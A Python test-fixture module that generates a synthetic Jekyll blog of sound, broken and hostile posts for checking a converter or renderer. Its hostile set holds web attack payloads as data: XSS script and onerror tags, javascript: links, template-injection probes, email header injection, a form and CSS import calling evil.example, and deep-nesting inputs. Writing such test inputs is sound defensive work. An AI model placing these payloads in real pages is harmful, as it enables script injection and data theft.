"""A Jekyll blog as blogs really are: every form and every mistake they are known for, several to a post.

`make_blog` writes it into a folder and says what is where; the same seed writes the same bytes. Every run of
words carries a marker (`w0001a`) that stands nowhere else in its post, so that whoever reads what was made of
the post can tell whether anything was lost, repeated or moved.
"""

import codecs
import datetime
import io
import random
import re
from collections.abc import Callable
from dataclasses import dataclass
from enum import StrEnum
from pathlib import Path

from PIL import Image


class Kind(StrEnum):
    """What is to become of a post: rendered whole; refused or complained of by name; rendered inert."""

    SOUND = "sound"
    BROKEN = "broken"
    HOSTILE = "hostile"


@dataclass(frozen=True)
class BlogPost:
    """A post of the blog: `words` are its markers in reading order, `gone` those that nobody is to see.

    `traps` says what it holds, or what is wrong with it; `line` is where, if there is one line to name.
    """

    path: Path
    kind: Kind
    traps: tuple[str, ...]
    words: tuple[str, ...] = ()
    gone: tuple[str, ...] = ()
    line: int | None = None


IMAGES = ("desk.png", "harbour.jpg", "notebook.gif", "stairs.webp")
_NAMES = (
    ("Mara Voss", "Ilan Peretz"),
    ("Tomoko", "Agnes O’Dell"),
    ("Jean-Luc", "Dr. Amina Bello"),
    ("Юрий", "Нина Краснова"),
    ("דפנה", "עידו לב"),
    ("سلمى", "كريم"),
    ("山本", "伊藤"),
)
_SENTENCES = {
    "en": (
        "Begin with the part you would rather put off, and stop while you still know what comes next.",
        "Nobody reads a CV for as long as it took to write one line of it.",
        "If the answer frightens you, ask a smaller question first.",
        "A colleague who says “it depends” has done half of the work; ask on what.",
        "We tried it for a month — badly, then less badly — and kept two of the five habits.",
    ),
    "he": (
        "כדאי להתחיל בצעד קטן ולכתוב מה למדנו ממנו.",
        "מי ששואל בזמן חוסך לעצמו שבוע של ניחושים.",
    ),
    "ru": (
        "Лучше спросить дважды, чем неделю угадывать молча.",
        "Начните с малого и запишите, что получилось.",
    ),
    "ar": (
        "ابدأ بخطوة صغيرة واكتب ما تعلمته منها.",
        "من يسأل مبكرا يوفر على نفسه أسبوعا من التخمين.",
    ),
    "ja": (
        "小さな一歩から始めて、わかったことを書き留めましょう。",
        "早めに尋ねれば、一週間の推測を省けます。",
    ),
}
_TITLES = {
    "en": "What to ask before you say yes",
    "he": "מה לשאול לפני שמסכימים",
    "ru": "О чём спросить, прежде чем согласиться",
    "ar": "ما الذي تسأل عنه قبل أن توافق",
    "ja": "引き受ける前に尋ねること",
}


TRAPS = {
    "headings": """
## A heading $W

$S

### One below $W ###

$S

Underlined $W
---

$S
""",
    "emphasis": """
*$S* and __$W__, ~~$W~~, `$W < $W`\x20\x20
$S 2 * 3 * $W snake_case_$W
""",
    "lists": """
- $S
- $S
    - $S
    - $S
- $S

1. $S
2. $S

   $S

Term $W
:   $S
""",
    "figure with Markdown in it": """
<figure class="wp-block-image">
![A quiet desk]($IMAGE)
<figcaption>*$S*</figcaption>
</figure>
""",
    "figure": """
<figure><a href="https://photos.example/1"><img src="$IMAGE" alt="A harbour" width="300"/></a>
<figcaption>$S</figcaption></figure>
""",
    "caption shortcode": """
[caption id="attachment_7" align="aligncenter" width="300"]<img src="$IMAGE" alt="Stairs" /> $S[/caption]
""",
    "code shortcode": """
$S

[code language="python"]
if a < b and b > 0:
    print("$W")  # **$W**
[/code]
""",
    "gallery shortcode": """
$S

[gallery ids="11,12,13" columns="3"]

$S
""",
    "attribute lists": """
![A notebook]($IMAGE){:width="320" class="alignright"}

$S
{: .lead align="center"}

[$W](https://example.org/){:target="_blank"} $S
""",
    "breaks in a quote": """
> $S<br><br>$S<br />
> $S
>
> $S
""",
    "bad HTML": """
<div class=wide><p>$S<b>$W</div>

<center><font color=red>$S</font></center>

<p align=justify>$S<o:p></o:p>

</span>$S
""",
    "details": """
<details><summary>$W</summary>

$S

</details>
""",
    "tables": """
| Ask | Answer |
|:----|------:|
| $W | $W |
| `$W` | $W |

<table><tr><th>$W</th><th>$W</th></tr><tr><td>$W<td>$S</table>
""",
    "footnotes": """
$S[^n$N] $W

[^n$N]: Below $BELOW
""",
    "fenced code": """
$S

```python
def answer():
    return "<b>$W</b> {}"

```

~~~
**$W**
~~~

    indented $W
""",
    "highlight": """
$S

{% highlight ruby %}
puts '$W'

puts '$W'
{% endhighlight %}

$S
""",
    "raw": """
$S {% raw %}{{ page.title }} $W{% endraw %} $S
""",
    "embeds": """
$S

<iframe width="560" height="315" src="https://www.youtube.com/embed/abc123" title="A talk"></iframe>

$S

https://www.youtube.com/watch?v=abc123

$S

https://twitter.com/someone/status/1234567890

$S
""",
    "words in angle brackets": """
I left <Some Company> $W for <XYZ> $W; a <- b, x << 2 $W <ann@example.org> $W
""",
    "typography": """
“Quoted”—it’s… $W\u00a0№\u202f5 👩🏽‍💻 e\u0301te\u0301 $W &amp; &nbsp;&copy; &lt;b&gt; $W C:\\new \\*$W\\*
""",
    "languages": """
כדאי לנסות $W ואז לכתוב *$W*.

Стоит попробовать $W и записать *$W*.

جرّب أولا $W ثم اكتب *$W*.

まず試して $W 書き留める *$W*。
""",
    "Liquid in links": """
[$S]({% post_url $POST %}) $S ![Stairs]({{ site.baseurl }}$IMAGE)
[$W]({{ site.url }}{{ site.baseurl }}/about/) $W
""",
    "links": """
[$S][r$N] <https://example.org/a-very-long-long-long-long-long-long-long-long-long-long-path> $W
[$W](/about/) [**$W**](https://example.org/a_(b)?x=1&y=2 'A title') https://example.org/bare $W

[r$N]: https://example.org/reference
""",
    "relative image": """
$S

![A small picture](..$IMAGE "As it was")

$S
""",
    "more": """
$S

<!--more-->

$S

<!-- note to self: $GONE -->

$S
""",
    "turns by bold names": """
## The thread $W

**$A**

$S

$S

**$B**

\\> $S

$S

- $S

**$A:**

> $S
>
> > $S

$S

---

$S
""",
    "turns with times": """
## Chat $W

**$A** 10:42

$S

**$B** 10:45

$S

## After $W

$S
""",
    "interview": """
## Interview $W

Q: $S

A: $S

$S

Q: $S

A: $S

---

$S
""",
    "turns by plain names": """
## Talk $W

$A: $S

$B: $S

$A: $S

$B: $S

## Done $W

$S
""",
    "letter answered piece by piece": """
A reader writes: $W

> $S
>
> $S

$S

> $S

$S

> $S

$S
""",
    "question and answer": """
## The question

$S

$S

## The answer

$S

$S
""",
    "forwarded mail": """
$S

On Tue, 3 Mar 2026 at 09:12, $A wrote: $W

> $S
> $S
>
>> $S

$S
""",
    "narration that names the speaker": """
## Between $W

**$A**

$S

Let us look at what $A said. $W

**$B**

$S

$S
{: .narration}

$S
""",
    "one bold line": """
$S

**$A**

$S
""",
}
"""What a sound post may hold.

`$S` is a sentence with a marker, `$W` a marker, `$BELOW` one that is moved below the post, `$GONE` one that
nobody is to see; `$IMAGE` and `$POST` are there, `$A` and `$B` speak, `$N` is a number of the piece's own.
"""

_PLACE = re.compile(r"\$(BELOW|GONE|IMAGE|POST|[SWABN]\b)")


class _Pen:
    """Fills in one post's pieces, and remembers the markers it has set."""

    def __init__(self, chance: random.Random, lang: str, others: list[str]) -> None:
        self.words: list[str] = []
        self.below: list[str] = []
        self.gone: list[str] = []
        self._chance, self._lang, self._others = chance, lang, others
        self._marked = self._filled = 0

    def fill(self, piece: str) -> str:
        """`piece` with its places filled in."""
        self._filled += 1
        speakers = self._chance.choice(_NAMES)

        fillings: dict[str, Callable[[], str]] = {
            "S": lambda: f"{self._chance.choice(_SENTENCES[self._lang])} {self._mark(self.words)}",
            "W": lambda: self._mark(self.words),
            "BELOW": lambda: self._mark(self.below),
            "GONE": lambda: self._mark(self.gone),
            "IMAGE": lambda: f"/assets/images/{self._chance.choice(IMAGES)}",
            "POST": lambda: self._chance.choice(self._others),
            "A": lambda: speakers[0],
            "B": lambda: speakers[1],
            "N": lambda: str(self._filled),
        }
        return _PLACE.sub(lambda place: fillings[place[1]](), piece.strip("\n"))

    def _mark(self, kind: list[str]) -> str:
        self._marked += 1
        kind.append(f"w{self._marked:04}{self._chance.choice('abc')}")
        return kind[-1]


_FRONT = """---
layout: post
title: "{title} {number}"
date: {date} 08:30:00 +0200
categories: [advice]
lang: {lang}
author: The Editor
---
"""
_FRONT_LINES = _FRONT.count("\n")

# What is wrong: the body, and in which of its lines.
_BROKEN_BODIES = {
    "image without an alternative text": ("Words.\n\n![](/assets/images/desk.png)\n", 3),
    "HTML image without an alternative text": ('Words.\n\n<img src="/assets/images/desk.png">\n', 3),
    "image that is not there": ("Words.\n\nMore.\n\n![A map](/assets/images/lost.png)\n", 5),
    "relative image that is not there": ("![A map](../assets/images/lost.png)\n", 1),
    "link to a post that is not there": ("[A post]({% post_url 1999-01-01-never %}) of old.\n", 1),
    "link without words": ("Words.\n\nSee [](https://example.org/) there.\n", 3),
    "Liquid that is not read": ("Words.\n\n{% include newsletter-box.html %}\n", 3),
    "variable that is not known": ("Words, dear {{ reader.name }}.\n", 1),
    "a line without end": ("Words.\n\n" + "endless " * 20_000 + "\n", 3),
}
_BROKEN_FRONT = {
    "quote that is not closed": ('---\ntitle: "Half a title\ndate: 2024-01-01\n---\nWords.\n', 2),
    "colon in a title": ("---\nlayout: post\ntitle: Advice: how to ask: twice\n---\nWords.\n", 3),
    "tab in the front matter": ("---\ntitle: Tabs\n\tlang: en\n---\nWords.\n", 3),
    "front matter that is not closed": ("---\ntitle: Open\n\nWords.\n", 1),
    "list for front matter": ("---\n- title\n- date\n---\nWords.\n", 2),
    "alias in the front matter": ("---\ntags: &t [a, b]\ncategories: *t\n---\nWords.\n", 3),
    "mapping for a title": ("---\ntitle: {a: b}\n---\nWords.\n", 2),
    "day that is none": ("---\ntitle: A day\ndate: 2024-02-31\n---\nWords.\n", 3),
    "language that is none": ("---\ntitle: Tongue\nlang: some english\n---\nWords.\n", 3),
    "empty file": ("", None),
    "front matter alone": ("---\ntitle: Nothing\n---\n\n\n", None),
}
_BROKEN_BYTES = {
    "UTF-16": (codecs.BOM_UTF16_LE + "Some words.\n".encode("utf-16-le"), None),
    "windows-1251": (b"---\ntitle: A title\n---\n\n" + _SENTENCES["ru"][0].encode("cp1251"), 5),
    "windows-1255": (
        b"---\ntitle: T\n---\n\nLatin.\n" + _SENTENCES["he"][0].encode("cp1255"),
        6,
    ),
    "NUL bytes": (b"Some\nwords\0here.\n", 2),
    "three megabytes": (b"Many words.\n\n" * 250_000, None),
}
_HOSTILE_BODIES = {
    "script": "<script>alert('w9999z')</script>\n\n<img src=x onerror=alert(1) alt=''>\n\nWords.\n",
    "links that run": "[a](javascript:alert(1)) [b](data:text/html;base64,PHNjcmlwdD4=) [c](vbscript:x)\n",
    "style tricks": '<style>@import "//evil.example/x";</style>\n\n<p style="position:fixed">Words.</p>\n',
    "end of the container": "</mj-text></mj-column><mj-raw><script>x</script></mj-raw>\n\nWords.\n",
    "template code": "{{ 7*7 }} {{ ''.__class__ }} {% for x in y %}{{ x }}{% endfor %}\n",
    "form": '<form action="https://evil.example"><input name="p"><button>Go</button></form>\n\nWords.\n',
    "quotes inside quotes": ">" * 10_000 + " Words.\n",
    "brackets inside brackets": "[" * 10_000 + "words" + "](" * 5_000 + "\n",
    "elements inside elements": "<div>" * 10_000 + "words\n",
    "lists inside lists": "".join(f"{'    ' * depth}- deeper\n" for depth in range(400)),
    "stars": "*a **b " * 5_000 + "\n",
    "fence that is not closed": "Words.\n\n```python\nprint(1)\n\nMore words.\n",
    "comment that is not closed": "Words.\n\n<!-- begun\n\nMore words.\n",
    "highlight that is not closed": "Words.\n\n{% highlight ruby %}\nputs 1\n",
    "control characters": "Words\x01\x02\x1b[31m\u202e and\ufeff more.\n",
}
_HOSTILE_FRONT = {
    "header injection in a title": '---\ntitle: "Hi\\r\\nBcc: a@b.example\\r\\n\\r\\nBody"\n---\nWords.\n',
    "markup in a title": "---\ntitle: '\"></mj-title><script>alert(1)</script>{{ 7*7 }}'\n---\nWords.\n",
}


def make_blog(folder: Path, posts: int = 300, seed: int = 3) -> list[BlogPost]:
    """Write a blog of so many posts into an empty folder, with its drafts, pages and images beside them."""
    chance = random.Random(seed)
    faults = _faults()
    names = _file_names(chance, posts)
    sound, faulty = names[: posts - len(faults)], names[posts - len(faults) :]
    _write_surroundings(folder, chance)
    made = [_write_sound(folder, chance, number, sound) for number in range(len(sound))]
    for name, (kind, trap, data, line) in zip(faulty, faults, strict=True):
        made.append(BlogPost(_write(folder, f"_posts/{name}.md", data), kind, (trap,), line=line))
    return made


def _file_names(chance: random.Random, posts: int) -> list[str]:
    """`2024-01-05-advice-17`, one every few days."""
    day = datetime.date(2015, 1, 2)
    names = []
    for number in range(posts):
        day += datetime.timedelta(days=chance.randint(1, 20))
        names.append(f"{day}-advice-{number}")
    return names


def _write_sound(folder: Path, chance: random.Random, number: int, names: list[str]) -> BlogPost:
    lang = ("en", "en", "en", "he", "en", "ru", "en", "ar", "en", "ja")[number % 10]
    pen = _Pen(chance, lang, names)
    kinds = list(TRAPS)
    # One in turn, so that none is left out, and a few by chance.
    traps = list(dict.fromkeys([kinds[number % len(kinds)], *chance.sample(kinds, chance.randint(2, 5))]))
    front = _FRONT.format(title=_TITLES[lang], number=number, date=names[number][:10], lang=lang)
    pieces = ["$S", *(TRAPS[trap] for trap in traps), "---", "## Last $W", "$S"]
    text = front + "\n" + "\n\n".join(map(pen.fill, pieces)) + "\n"
    data = text.replace("\n", "\r\n" if number % 3 == 2 else "\n").encode()
    path = _write(folder, f"_posts/{names[number]}.{'markdown' if number % 7 == 2 else 'md'}", data)
    return BlogPost(path, Kind.SOUND, tuple(traps), tuple(pen.words + pen.below), tuple(pen.gone))


def _faults() -> list[tuple[Kind, str, bytes, int | None]]:
    front = _FRONT.format(title=_TITLES["en"], number="x", date="2024-01-01", lang="en")
    bodies = [
        (Kind.BROKEN, trap, (front + body).encode(), None if line is None else _FRONT_LINES + line)
        for trap, (body, line) in _BROKEN_BODIES.items()
    ]
    fronts = [(Kind.BROKEN, trap, text.encode(), line) for trap, (text, line) in _BROKEN_FRONT.items()]
    files = [(Kind.BROKEN, trap, data, line) for trap, (data, line) in _BROKEN_BYTES.items()]
    binary = [(Kind.BROKEN, "a picture for a post", _image("PNG", random.Random(0)), None)]
    hostile = [(Kind.HOSTILE, trap, (front + body).encode(), None) for trap, body in _HOSTILE_BODIES.items()]
    hostile += [(Kind.HOSTILE, trap, text.encode(), None) for trap, text in _HOSTILE_FRONT.items()]
    return bodies + fronts + files + binary + hostile


def _write_surroundings(folder: Path, chance: random.Random) -> None:
    _write(folder, "_config.yml", b"title: The Kettle\nurl: https://kettle.example\nbaseurl: ''\n")
    _write(folder, "about.md", b"---\ntitle: About\npermalink: /about/\n---\nWho writes here.\n")
    _write(folder, "_layouts/post.html", b"<html>{{ content }}</html>\n")
    _write(folder, "_drafts/half-an-idea.md", b"---\ntitle: Half an idea\n---\nNot yet.\n")
    for name in IMAGES:
        kind = {"jpg": "JPEG"}.get(name.partition(".")[2], name.partition(".")[2].upper())
        _write(folder, f"assets/images/{name}", _image(kind, chance))


def _image(kind: str, chance: random.Random) -> bytes:
    colour = (chance.randrange(256), chance.randrange(256), chance.randrange(256))
    out = io.BytesIO()
    Image.new("RGB", (48, 32), colour).save(out, kind)
    return out.getvalue()


def _write(folder: Path, name: str, data: bytes) -> Path:
    path = folder / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    return path
